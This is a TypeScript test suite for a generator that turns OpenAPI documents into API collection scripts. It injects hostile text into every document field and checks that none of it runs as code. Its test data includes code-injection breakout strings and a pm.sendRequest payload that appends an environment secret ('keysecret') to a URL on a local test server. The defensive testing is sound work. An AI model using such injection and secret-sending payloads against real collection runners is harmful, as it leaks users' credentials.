/** Hostile documents: no text of a document becomes code of a script, whatever it holds and wherever it stands. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createContext, runInContext } from 'node:vm';
import config from '../../collections/clickhouse-cloud/collection.ts';
import lifecycle from '../../collections/clickhouse-cloud/lifecycle.ts';
import { buildCollection } from '../../scripts/collection/build.ts';
import type { CollectionConfig } from '../../scripts/collection/config.ts';
import { itemsBelow, requestsByOperation } from '../../scripts/collection/item-index.ts';
import type { GeneratedCollection } from '../../scripts/collection/model.ts';
import { contractsOf } from '../../scripts/collection/scripts/contracts.ts';
import { libraryLines } from '../../scripts/collection/scripts/library.ts';
import { buildLifecycleCollection, LIFECYCLE_LIBRARY } from '../../scripts/collection/suites/lifecycle/lifecycle.ts';
import type { Scenario } from '../../scripts/collection/suites/lifecycle/scenario.ts';
import { buildNegativeCollection } from '../../scripts/collection/suites/negative/negative.ts';
import type { SuiteName } from '../../scripts/collection/suites/registry.ts';
import { normaliseDocument } from '../../scripts/openapi/normalise.ts';
import { toSpec } from '../../scripts/openapi/operations.ts';
import { ExpectedError } from '../../scripts/shared/errors.ts';
import type { Json, JsonObject } from '../../scripts/shared/json.ts';
import { PINNED } from '../fixtures/documents.ts';
import { closeAll, environment, listen, only, runLocally, serve } from '../run/local-run.ts';
import { hostileTexts, type Position, positionsOf, randomFrom, runnableTexts, withTexts } from './hostile-text.ts';
import { DOCUMENT, SCENARIO } from './pets-document.ts';
import { assertCollectionScript, assertRequestScript, withoutValues } from './script-grammar.ts';
import { CONFIG, listOf, specOf, TEXT, thing } from './spec-fixture.ts';

const SEED = 20260626;
const TEXTS = hostileTexts('globalThis.attacked=true');
/** Positions of one document that get hostile text together. */
const AT_ONCE = 4;

/** What has another meaning than a text: without it there is no document, or another one. */
const STRUCTURE = /^(openapi|\$ref|in|type|scheme)$/;

interface Built {
  readonly suites: readonly GeneratedCollection<SuiteName>[];
}

async function build(document: Json, own: CollectionConfig, scenario: Scenario): Promise<Built> {
  const spec = toSpec(normaliseDocument(document as JsonObject), 'hostile.json');
  const contracts = contractsOf(spec);
  const smoke = await buildCollection(spec, own, contracts);
  const requests = requestsByOperation(smoke);
  return {
    suites: [
      smoke,
      buildNegativeCollection(spec, own, requests, contracts),
      buildLifecycleCollection(spec, own, scenario, requests, contracts),
    ],
  };
}

function librariesOf(hasDefinitions: boolean): Readonly<Record<string, string[]>> {
  const definitions = hasDefinitions ? (['contract/definitions'] as const) : [];
  const plain = libraryLines(definitions);
  return { smoke: plain, negative: plain, lifecycle: libraryLines([...LIFECYCLE_LIBRARY, ...definitions]) };
}
const LIBRARIES = [librariesOf(false), librariesOf(true)];

/** @returns the number of scripts that were looked at. */
function assertHarmless({ suites }: Built): number {
  let count = 0;
  for (const { suite, json, items } of suites) {
    const exec = json.event?.[0]?.script.exec ?? [];
    const hasDefinitions = exec.some((line) => line.startsWith('  cloud.definitions = '));
    assertCollectionScript(exec, LIBRARIES[hasDefinitions ? 1 : 0]?.[suite] ?? []);
    const checks = new Map(items.map((item) => [item.itemId, item.checks]));
    for (const { id, event } of itemsBelow(json.item)) {
      for (const { script } of event) {
        assertRequestScript(script.exec);
        assertRunsAsWritten(script.exec, checks.get(id));
        count += 1;
      }
    }
  }
  return count;
}

/** Runs a request's script with a library that only counts. */
function assertRunsAsWritten(exec: readonly string[], checks: number | undefined): void {
  const made: string[] = [];
  const response = new Proxy(
    {},
    {
      get:
        (_, method) =>
        (...args: unknown[]) =>
          void made.push(method === 'finish' ? `finish ${args}` : String(method)),
    },
  );
  const open = () => response;
  const context = createContext({
    cloud: { response: open, step: open, withDefinitions: (schema: unknown) => schema },
    pm: {},
    console: {},
    setTimeout: {},
  });
  runInContext(exec.join('\n'), context, { timeout: 1000 });
  assert.equal((context as { attacked?: boolean }).attacked, undefined);
  assert.deepEqual([made.length - 1, made.at(-1)], [checks, `finish ${checks}`]);
}

describe('hostile documents', function () {
  this.timeout(180_000);
  afterEach(closeAll);
  const positions = positionsOf(DOCUMENT).filter(({ path, isName }) => isName || !STRUCTURE.test(String(path.at(-1))));
  const place = ({ path, isName }: Position) => `/${path.join('/')}${isName ? ' (name)' : ''}`;

  /** A path stays a path, and a status a status; all else may become anything. */
  function hostile(text: string, hostileText: string): string {
    if (text.startsWith('/')) return `${text}${hostileText.replaceAll(/[{}]/g, '')}`;
    return `${text}${hostileText}`;
  }

  async function check(what: string, document: Json, own = CONFIG, scenario = SCENARIO): Promise<number> {
    let built: Built;
    try {
      built = await build(document, own, scenario);
    } catch (error) {
      // Told to the user: no collection, no script.
      if (error instanceof ExpectedError) return 0;
      throw new Error(`${what}: ${(error as Error).stack}`);
    }
    try {
      return assertHarmless(built);
    } catch (error) {
      throw new Error(`${what}, seed ${SEED}: ${(error as Error).message}`);
    }
  }

  it('have a grammar that knows code from values', () => {
    assert.equal(
      withoutValues("response.isListOf({ at: '/a', 'b c': [1, true], d: {} }, null);"),
      'response.isListOf(¤, ¤);',
    );
    assert.equal(withoutValues('  return {"a":{"b":["c",-1.5e3]},["__proto__"]:{}};'), '  return ¤;');
    for (const line of [
      "response.x('a'); attack();",
      "response.isPem('a' + attack());",
      'response.isPem(`a`);',
      '// a summary',
      "response.isPem('a\u2028');",
    ])
      assert.throws(() => assertRequestScript([line]), line);
    assert.equal(
      withoutValues("response.isItem({\n  at: ['a' +\n    'b', 2],\n  ['a' +\n    'b']:\n    'c',\n});"),
      'response.isItem(¤);',
    );
    assert.throws(() => assertRequestScript(['response.isItem({', '  at: attack(),', '});']));
    assertRequestScript(["response.isPem('\\'; attack(); //');"]);
  });

  it('are harmless as they are: each kind of script is made', async () => {
    assert.ok((await check('the document itself', DOCUMENT)) > 40);
  });

  it('are harmless with hostile text in any position @slow', async () => {
    const random = randomFrom(SEED);
    let scripts = 0;
    let refused = 0;
    for (let start = 0; start < positions.length; start += AT_ONCE) {
      // Neighbours are parts of one object, and one that is refused refuses all: these are apart.
      const some = positions.filter((_, index) => index % Math.ceil(positions.length / AT_ONCE) === start / AT_ONCE);
      const texts = some.map(() => TEXTS[Math.floor(random() * TEXTS.length)] as string);
      const made = await check(
        some.map((position, index) => `${place(position)}: ${JSON.stringify(texts[index])}`).join('; '),
        withTexts(DOCUMENT, some, (old, position) => hostile(old, texts[some.indexOf(position)] as string)),
      );
      scripts += made;
      if (made === 0) refused += some.length;
    }
    assert.ok(
      positions.length > 150 && refused < 20 && scripts > 1000,
      `${positions.length} positions, ${refused} refused, ${scripts} scripts`,
    );
  });

  it('are harmless with hostile text in every position at once', async () => {
    // Schemas of another name are other schemas: references go along.
    const isText = ({ path, isName }: Position) => !isName || path[0] === 'paths';
    let scripts = 0;
    for (const text of TEXTS) {
      let index = 0;
      const document = withTexts(
        DOCUMENT,
        positions.filter(isText),
        (old) => `${hostile(old, text)}${/^[/\d]/.test(old) ? '' : ++index}`,
      );
      scripts += await check(JSON.stringify(text), withHostileSchemas(document, text), CONFIG, SCENARIO);
    }
    assert.ok(scripts > 300, `${scripts} scripts`);
  });

  /** Hostile names of schemas, and the references to them. */
  function withHostileSchemas(document: Json, text: string): Json {
    // Half of a character cannot be written into a reference.
    const name = `Pet${text.replaceAll('\ud800', '')}`;
    const token = encodeURIComponent(name).replaceAll('%2F', '~1').replaceAll('~', '~0').replaceAll('~01', '~1');
    const printed = JSON.stringify(document).replaceAll(
      '"#/components/schemas/Pet"',
      JSON.stringify(`#/components/schemas/${token}`),
    );
    const renamed = JSON.parse(printed) as { components: { schemas: Record<string, Json> } };
    const { Pet, ...schemas } = renamed.components.schemas;
    return {
      ...renamed,
      components: { ...renamed.components, schemas: { ...schemas, [name]: Pet as Json } },
    } as Json;
  }

  it('are harmless where operations and parameters have names that every object has', async () => {
    for (const name of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
      const item = `GET /orgs/{orgId}/pets/{${name}}`;
      const list = 'GET /orgs/{orgId}/pets';
      for (const named of [list, 'POST /orgs/{orgId}/pets', item]) {
        const id = (request: string, other: string) => ({ id: request === named ? name : other });
        const query = { name, in: 'query', required: true, schema: TEXT };
        const { document } = specOf({
          'GET /orgs/{orgId}': { id: 'org' },
          [list]: {
            ...id(list, 'list'),
            answers: listOf(
              Object.fromEntries([
                ['id', TEXT],
                [name, TEXT],
              ]),
            ),
          },
          'POST /orgs/{orgId}/pets': {
            ...id('POST /orgs/{orgId}/pets', 'create'),
            takes: thing({ name: TEXT }),
            answers: thing({ id: TEXT }),
          },
          [item]: { ...id(item, 'get'), parameters: [query], answers: thing({ id: TEXT, name: TEXT }) },
          [item.replace('GET', 'DELETE')]: { id: 'remove' },
        });
        assert.ok((await check(`${named} ${name}`, document)) > 5, `${named} ${name}`);
      }
    }
  });

  it('are harmless where the pinned document has hostile text @slow', async () => {
    const pinned = JSON.parse(readFileSync(PINNED, 'utf8')) as Json;
    const own = { ...config, operations: {}, reference: CONFIG.reference };
    const all = positionsOf(pinned).filter(({ path, isName }) => !isName && !STRUCTURE.test(String(path.at(-1))));
    const random = randomFrom(SEED);
    let scripts = 0;
    for (let round = 0; round < 3; round += 1) {
      let index = 0;
      const document = withTexts(pinned, all, (old, { path }) =>
        // Parameters keep their names, or the paths have none.
        path.at(-1) === 'name' && path.at(-2) !== 'tags'
          ? old
          : `${old}${TEXTS[Math.floor(random() * TEXTS.length)]}${++index}`,
      );
      scripts += await check(`round ${round}`, document, own, lifecycle);
    }
    assert.ok(all.length > 1000 && scripts > 900, `${all.length} positions, ${scripts} scripts`);
  });

  it('open no connection when they are run @slow', async () => {
    let connections = 0;
    const other = createServer();
    other.on('connection', () => {
      connections += 1;
    });
    const code = `pm.sendRequest('http://127.0.0.1:${await listen(other)}/?'+pm.environment.get('keysecret'))`;
    const baseURL = await serve((_request, response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end('[]'),
    );
    let sent = 0;
    for (const text of runnableTexts(code)) {
      let index = 0;
      const document = withTexts(
        DOCUMENT,
        positions.filter(({ isName }) => !isName),
        (old) => `${hostile(old, text)}${++index}`,
      );
      const [collection] = (await build(document, CONFIG, SCENARIO)).suites;
      const run = await runLocally({ ...(collection && { collection }), environments: [environment(baseURL)] });
      sent += only(run).requests.filter(({ attempts }) => attempts > 0).length;
    }
    assert.ok(sent > 20, `${sent} requests`);
    assert.equal(connections, 0);
  });
});
